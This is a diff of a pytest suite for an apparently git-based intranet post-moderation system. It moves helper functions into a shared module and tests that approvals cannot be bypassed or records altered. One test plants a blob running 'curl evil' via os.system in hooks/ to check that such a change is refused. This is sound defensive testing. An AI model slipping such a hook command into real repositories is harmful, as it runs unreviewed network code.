@@ -11,30 +11,21 @@ from pathlib import Path
 
 import hostile_git as hg
 import pytest
-from moderation_team import Team, make_team
-
-POST = "content/engineering/posts/our-new-build-farm.md"
-BRANCH = "post/engineering/our-new-build-farm"
-AUDIT_ON = ("  require_audit: false", "  require_audit: true")
+from moderation_team import (
+    AUDIT_ON,
+    BRANCH,
+    POST,
+    Team,
+    joint_post,
+    make_team,
+    rev,
+    submit_post,
+)
 
 
 @pytest.fixture
 def team(project: Path, tmp_path: Path) -> Team:
     return make_team(project, tmp_path / "company", policy_edit=AUDIT_ON)
-
-
-def submit_post(team: Team, who: str = "eve", title: str = "Our new build farm",
-                dept: str = "engineering") -> str:
-    """A submitted post branch; returns its tip."""
-    done = team.intranet(who, "new", "--department", dept, "--title", title, "--tags", "tools")
-    assert done.returncode == 0, done.stderr
-    done = team.intranet(who, "submit")
-    assert done.returncode == 0, done.stdout + done.stderr
-    return rev(team, who, "HEAD")
-
-
-def rev(team: Team, who: str, name: str) -> str:
-    return team.git(who, "rev-parse", name).stdout.strip()
 
 
 def refusals(pushed: str) -> list[str]:
@@ -58,6 +49,15 @@ def tree_with_file(team: Team, who: str, base: str, path: str, text: str) -> str
     clone = team.clone(who)
     blob = hg.blob(clone, text.encode())
     return hg.tree_with(clone, rev(team, who, f"{base}^{{tree}}"), path, blob)
+
+
+def approve_partially(team: Team) -> str:
+    """A submission touching two sections, approved by Grace for one: its approval tag
+    is on the shared repository, the post waits for HR."""
+    tip = joint_post(team, "post/engineering/joint", ("engineering", "hr"))
+    assert team.intranet("grace", "approve", "post/engineering/joint", "--as", "grace"
+                         ).returncode == 0
+    return tip
 
 
 # 1. The history cannot be re-rooted ----------------------------------------------------
@@ -137,17 +137,8 @@ def test_an_old_approval_cannot_publish_anything_else(team: Team) -> None:
 def test_nothing_can_be_added_around_an_approved_commit(team: Team) -> None:
     """A post approved for Engineering waits for a second section; Eve publishes it herself
     with the approval she has, plus a change to hooks/ in the merge."""
-    team.git("eve", "switch", "--quiet", "--create", "post/engineering/joint")
-    for dept in ("engineering", "hr"):
-        page = team.clone("eve") / "content" / dept / "index.md"
-        page.write_text(page.read_text(encoding="utf-8") + "\nJoint update.\n",
-                        encoding="utf-8")
-    team.git("eve", "commit", "--quiet", "--all", "--message", "Joint update")
-    assert team.intranet("eve", "submit").returncode == 0
-    assert team.intranet("grace", "approve", "post/engineering/joint", "--as", "grace"
-                         ).returncode == 0
+    tip = approve_partially(team)
     clone = team.clone("eve")
-    tip = rev(team, "eve", "HEAD")
     main = rev(team, "eve", "origin/main")
     merged = team.git("eve", "merge-tree", "--write-tree", main, tip).stdout.strip()
     blob = hg.blob(clone, b"import os\nos.system('curl evil')\n")
@@ -241,21 +232,6 @@ def test_a_self_approval_recorded_by_hand_is_refused_and_flagged(team: Team) -> 
 
 
 # 4. Moderation records are append-only -------------------------------------------------
-
-def approve_partially(team: Team) -> str:
-    """A submission touching two sections, approved by Grace for one: its approval tag
-    is on the shared repository, the post waits for HR."""
-    team.git("eve", "switch", "--quiet", "--create", "post/engineering/joint")
-    for dept in ("engineering", "hr"):
-        page = team.clone("eve") / "content" / dept / "index.md"
-        page.write_text(page.read_text(encoding="utf-8") + "\nJoint update.\n",
-                        encoding="utf-8")
-    team.git("eve", "commit", "--quiet", "--all", "--message", "Joint update")
-    assert team.intranet("eve", "submit").returncode == 0
-    assert team.intranet("grace", "approve", "post/engineering/joint", "--as", "grace"
-                         ).returncode == 0
-    return rev(team, "eve", "HEAD")
-
 
 def test_records_cannot_be_deleted_or_moved(team: Team) -> None:
     tip = approve_partially(team)
